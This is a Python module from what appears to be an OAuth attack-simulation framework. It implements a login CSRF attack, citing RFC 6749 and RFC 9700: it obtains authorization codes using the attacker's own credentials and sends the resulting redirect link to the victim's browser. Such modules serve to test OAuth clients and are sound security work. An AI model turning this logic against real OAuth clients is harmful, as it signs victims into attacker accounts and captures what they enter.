"""The victim's browser is sent to the client with the attacker's code."""

from typing import ClassVar

from simlib.attacks.base import BROWSER, Candidate, Inapplicable, OnFlows, Preparation, send
from simlib.attacks.forms import asking, form, own_proof_key, parameters_of
from simlib.scenario.effects import Answer, Context, Flow, Reply


class LoginCsrf(OnFlows):
    """The victim goes on under the attacker's account, and leaves there what it types in."""

    name: ClassVar[str] = "login_csrf"
    summary: ClassVar[str] = "a link with the attacker's code makes the victim's client sign in as the attacker"
    source: ClassVar[str] = "RFC 6749 section 10.12, RFC 9700 sections 2.1 and 4.7"
    needs: ClassVar[tuple[str, ...]] = ("fresh_redirect",)
    once: ClassVar[bool] = True

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Sign in at the server oneself, with and without a challenge, and keep the redirects."""
        if not self.loot.fresh_redirect:
            return Inapplicable("this client waits for no redirect")
        _, challenge = own_proof_key(ctx)
        typed = {"login": self.loot.login, "password": self.loot.password}
        found = []
        for label, proof in (("a code without challenge", ""), ("a code with the attacker's challenge", challenge)):
            asked = asking(self.loot, self.loot.redirect_uri, proof, **typed)
            answer = yield from send("authorize", form(**asked))
            location = answer.body.decode() if isinstance(answer, Reply) and answer.status == 302 else ""
            if "code" in parameters_of(location):
                found.append(Candidate(label, location))
        return tuple(found) or Inapplicable("this client is given no codes")

    def strike(self, ctx: Context, candidate: Candidate) -> Flow[Answer]:
        """Send the link."""
        return send(BROWSER, form(step="redirect", location=candidate.value))
